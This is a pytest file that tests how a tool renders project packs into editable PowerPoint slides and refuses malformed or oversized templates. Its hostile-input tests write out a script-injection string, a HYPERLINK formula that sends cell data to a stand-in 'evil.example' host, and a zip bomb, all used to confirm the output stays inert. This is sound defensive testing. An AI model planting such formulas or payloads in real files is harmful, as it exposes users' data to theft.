"""A pack on slides: in our template and in those of others, editable, and inert whatever the texts are."""

import io
from dataclasses import replace

import pytest
from pptx import Presentation
from pptx.util import Inches
from python_calamine import CalamineWorkbook

from slipwatch.document import blocks as b
from slipwatch.document.charts import build_sheet, count_days
from slipwatch.document.slides import render_slides
from slipwatch.document.slides.template import read_own_template
from slipwatch.errors import ConfigError
from tests.document import packs, templates
from tests.document.samples import build_chart
from tests.hostile import HOSTILE
from tools.slides_template import build as build_own

STATUS = "{{slipwatch:status}}"
FOREIGN = templates.build_foreign_for(packs.KEYS)


def open_deck(data):
    return Presentation(io.BytesIO(data))


def list_charts(data):
    return [shape.chart for slide in open_deck(data).slides for shape in slide.shapes if shape.has_chart]


def read_layouts(data):
    folders = ("ppt/slideLayouts/slide", "ppt/slideMasters/slide", "ppt/theme/theme1")
    return {name: content for name, content in packs.read_parts(data).items() if name.startswith(folders)}


class TestFilling:
    def test_each_section_stands_where_it_was_asked_for(self):
        filled = render_slides(packs.build_pack(), FOREIGN)
        cover, status, milestones, decisions = packs.read_slides(filled.data)

        assert cover.startswith("Pack SIT exit for ERP core")
        assert status.startswith("Status SIT exit")
        assert "Number" in milestones
        assert decisions.startswith("Decisions")
        assert filled.appended == ()
        assert STATUS not in "".join((cover, status, milestones, decisions))

    def test_section_without_a_place_is_appended_in_the_same_layout_and_said(self):
        template = templates.build_with(STATUS)
        filled = render_slides(packs.build_pack(), template)
        slides = open_deck(filled.data).slides

        assert filled.appended == ("milestones", "decisions")
        assert [slide.shapes.title.text for slide in slides][1:] == ["Milestones", "Decisions"]
        assert {slide.slide_layout.name for slide in slides} == {"Title Only"}

    def test_chart_without_a_place_of_its_own_stands_below_its_milestones(self):
        filled = render_slides(packs.build_pack(), templates.build_with("{{slipwatch:milestones}}"))
        slide = open_deck(filled.data).slides[0]

        assert [shape.has_chart for shape in slide.shapes].count(True) == 1

    def test_template_without_any_placeholder_gets_everything_in_its_own_layout(self):
        filled = render_slides(packs.build_pack(), templates.build_corporate(), name="corporate.potx")

        assert filled.appended == ("status", "milestones", "decisions")
        assert filled.slides == 3
        assert {slide.slide_layout.name for slide in open_deck(filled.data).slides} == {"Title Only"}

    def test_layouts_and_masters_stay_as_they_are(self):
        assert read_layouts(render_slides(packs.build_pack(rows=40), FOREIGN).data) == read_layouts(FOREIGN)

    def test_placeholder_may_be_the_name_of_a_shape_whatever_its_text(self):
        filled = render_slides(packs.build_pack(), templates.build_with("type here", name=STATUS))

        assert "type here" not in packs.read_slides(filled.data)[0]
        assert "Number" in packs.read_slides(filled.data)[0]

    def test_text_that_powerpoint_tore_into_runs_is_found_and_groups_are_looked_into(self):
        filled = render_slides(packs.build_pack(), FOREIGN)

        assert all("Sources: PLAN" in text for text in packs.read_slides(filled.data)[1:])

    def test_long_table_goes_on_behind_its_slide_with_logo_and_number(self):
        pack = packs.build_pack(rows=40)
        filled = render_slides(pack, FOREIGN)
        deck = open_deck(filled.data)
        titles = [slide.shapes.title.text for slide in deck.slides]

        assert titles[2:4] == ["Milestones (1/3)", "Milestones (2/3)"]
        assert titles.index("Decisions (1/3)") == 5
        assert all(templates.LOGO in [shape.name for shape in slide.shapes] for slide in list(deck.slides)[1:])

    def test_rows_without_room_are_counted_on_the_slide_and_in_the_answer(self):
        filled = render_slides(packs.build_pack(rows=400), FOREIGN)

        assert filled.hidden["decisions"] > 0
        assert any(f"and {number} more" in packs.read_slides(filled.data)[-1] for number in range(300, 400))

    def test_notes_hold_the_sources_after_what_the_template_says(self):
        deck = open_deck(templates.build_with(STATUS))
        deck.slides[0].notes_slide.notes_text_frame.text = "Speak slowly"
        notes = packs.read_notes(render_slides(packs.build_pack(), templates.save(deck)).data)

        assert notes[0].splitlines() == ["Speak slowly", "Source of status", "SIT exit"]

    def test_title_that_is_too_long_gets_smaller_and_is_cut_before_it_leaves_its_shape(self):
        deck = open_deck(templates.build_with(STATUS))
        title = deck.slides[0].shapes.title
        title.text = "{{slipwatch:title}}"
        title.left, title.top, title.width, title.height = Inches(1), Inches(0.2), Inches(3), Inches(0.6)
        filled = render_slides(packs.build_pack("word " * 200), templates.save(deck))
        shape = open_deck(filled.data).slides[0].shapes.title

        assert shape.text.endswith("…")
        assert len(shape.text) < 80

    def test_the_same_pack_is_the_same_bytes(self):
        assert render_slides(packs.build_pack(), FOREIGN).data == render_slides(packs.build_pack(), FOREIGN).data


class TestEditing:
    def test_tables_are_tables_and_the_chart_is_a_chart_with_its_figures(self):
        data = render_slides(packs.build_pack(), FOREIGN).data
        (chart,) = list_charts(data)
        line, level, diagonal = chart.plots[0].series

        assert (line.name, diagonal.name) == ("SIT exit", "SIT exit")
        assert [value for value in line.values if value][-1] == count_days(build_chart("x").lines[0].points[-1][1])
        assert level.name == "SIT exit · SIT exit"
        assert [shape for slide in open_deck(data).slides for shape in slide.shapes if shape.shape_type == 13] == []

    def test_figures_of_the_sheet_are_those_of_the_chart(self):
        data = render_slides(packs.build_pack(), FOREIGN).data
        (name,) = [name for name in packs.read_parts(data) if name.endswith(".xlsx")]
        book = CalamineWorkbook.from_filelike(io.BytesIO(packs.read_parts(data)[name]))
        titles, *rows = book.get_sheet_by_index(0).to_python()
        sheet = build_sheet(build_chart("SIT exit"))

        assert titles[1:] == [column.name for column in sheet.columns]
        assert [row[0] for row in rows] == list(sheet.days)
        assert [count_days(row[1]) for row in rows if row[1]] == [day for day in sheet.columns[0].values if day]

    def test_steps_fall_on_the_day_on_which_they_were_stated(self):
        sheet = build_sheet(build_chart("SIT exit"))
        by_day = dict(zip(sheet.days, sheet.columns[0].values, strict=True))
        (first, before), (second, after) = build_chart("x").lines[0].points

        assert by_day[first] == count_days(before)
        assert by_day[second] == count_days(after)
        assert [value for day, value in by_day.items() if day < second] == [count_days(before)] * 2

    def test_part_that_nobody_watched_is_a_dashed_line_of_its_own(self):
        (line,) = build_chart("SIT exit").lines
        early = replace(line, points=line.points[1:], early=line.points[:1], targets=(), hints=line.targets)
        chart = replace(build_chart("SIT exit"), lines=(early,), early="reconstructed", hint="not approved")
        named, before, hint, diagonal = build_sheet(chart).columns

        assert (named.name, named.is_named, named.dash) == ("SIT exit", True, None)
        assert (before.name, before.is_named, before.dash) == ("SIT exit · reconstructed", False, "LONG_DASH")
        assert (hint.name, hint.dash, diagonal.is_named) == ("SIT exit · not approved", "ROUND_DOT", True)

    def test_line_of_which_nobody_watched_anything_keeps_its_place_in_the_legend(self):
        (line,) = build_chart("SIT exit").lines
        chart = replace(build_chart("SIT exit"), lines=(replace(line, points=(), early=line.points),), early="old")

        assert next(column.name for column in build_sheet(chart).columns if column.is_named) == "SIT exit · old"

    def test_word_of_a_light_stands_on_its_ground(self):
        blocks = (b.Table((b.Column("Light"),), (((b.Chip("Red", tone="critical"),),),)),)
        section = b.Section(key="status", title="Status", blocks=blocks)
        pack = b.Pack(title="Pack", language="en", sections=(section,), words=packs.WORDS)
        data = render_slides(pack, templates.build_with(STATUS)).data
        (frame,) = [shape for shape in open_deck(data).slides[0].shapes if shape.has_table]
        cell = frame.table.cell(1, 0)

        assert cell.text == "Red"
        assert str(cell.fill.fore_color.rgb) == "F6D5D2"


class TestRefusals:
    @pytest.mark.parametrize(
        ("template", "parts"),
        [
            (templates.build_with("{{slipwatch:statuss}}"), ["slide 1", "statuss", STATUS, "{{slipwatch:footer}}"]),
            (templates.build_with("{{ slipwatch:x y }}"), ["no placeholder", "allowed are"]),
            (templates.build_with(f"{STATUS} and more"), ["stands in a text", "a shape with nothing else"]),
            (templates.build_with(STATUS, is_grouped=True), ["stands in a group", "ungroup"]),
            (templates.build_with(STATUS, is_layout=True), ["layout", "move it to a slide"]),
            (templates.build_twice(STATUS), ["slide 2", "second time"]),
            (b"%PDF-1.7 a page", ["it is a PDF", ".potx"]),
            (b"\xd0\xcf\x11\xe0 locked", ["password"]),
            (b"", ["it is empty"]),
            (templates.build_archive({"word/document.xml": b"<x/>"}), ["cannot be read as a presentation"]),
        ],
        ids=["typo", "blanks", "in a text", "group", "layout", "twice", "pdf", "locked", "empty", "other archive"],
    )  # fmt: skip
    def test_template_that_cannot_be_filled_says_what_where_and_what_to_do(self, template, parts):
        with pytest.raises(ConfigError) as refused:
            render_slides(packs.build_pack(), template, name="client.pptx")

        assert str(refused.value).startswith("client.pptx")
        assert all(part in str(refused.value) for part in parts), str(refused.value)

    def test_template_that_unpacks_to_too_much_is_refused(self):
        bomb = templates.build_archive({f"{number}.xml": b"0" * 40_000_000 for number in range(10)})

        with pytest.raises(ConfigError, match="unpacks to 400 MB"):
            render_slides(packs.build_pack(), bomb, name="bomb.pptx")


class TestHostile:
    @pytest.fixture(scope="class")
    def data(self):
        """Every hostile text in a cell, a list, a title and the notes; some of them in every kind of block."""
        table = b.Table((b.Column("Text"), b.Column("Other")), tuple((text, (b.Chip(text),)) for text in HOSTILE))
        lines = tuple(build_chart(text).lines[0] for text in HOSTILE)
        chart = b.DateChart(lines=lines, same_day="=1+1", target="@SUM(1)", picture=b.Picture("<svg/>", HOSTILE[0]))
        parts = [("all", HOSTILE[0], (table, b.Bullets(HOSTILE)), 60), ("trend", HOSTILE[1], (chart,), 1)]
        parts += [(f"part{text}", text, packs.build_pack(text).sections[0].blocks, 2) for text in HOSTILE[::9]]
        parts += [(f"title{text}", text, (b.Paragraph(text),), 1) for text in HOSTILE]
        sections = tuple(
            b.Section(key=key, title=title, blocks=blocks, notes=HOSTILE, most_pages=most)
            for key, title, blocks, most in parts
        )
        pack = b.Pack(title=HOSTILE[0], language="en", sections=sections, words=packs.WORDS, more="{count}")
        return render_slides(pack, templates.build_corporate()).data

    def test_nothing_acts_or_loads(self, data):
        assert packs.list_dangers(data) == []

    def test_file_opens_and_the_words_are_there(self, data):
        text = "".join(packs.read_slides(data))

        assert "<script>alert(1)</script>" in text
        assert '=HYPERLINK("https://evil.example?x="&A1,"Open")' in text
        assert not set(text) & {"\u202e", "\x1b", "\x00"}

    def test_placeholder_in_a_text_from_elsewhere_is_text(self):
        filled = render_slides(packs.build_pack("{{slipwatch:footer}}"), templates.build_with(STATUS))

        assert "{{slipwatch:footer}}" in packs.read_slides(filled.data)[0]


def test_our_template_is_the_one_that_its_script_makes():
    assert read_own_template() == build_own(), "python -m tools.slides_template writes it anew"


def test_our_template_asks_for_every_section_of_a_pack():
    from slipwatch.document.slides.template import find_places

    deck = open_deck(read_own_template())
    keys = ("status", "milestones", "decisions", "suppliers", "changes", "unjudged")
    found = find_places(deck, "ours", sections=keys, words=("title", "subtitle", "footer"))

    assert [place.key for entry in found for place in entry.places] == list(keys)
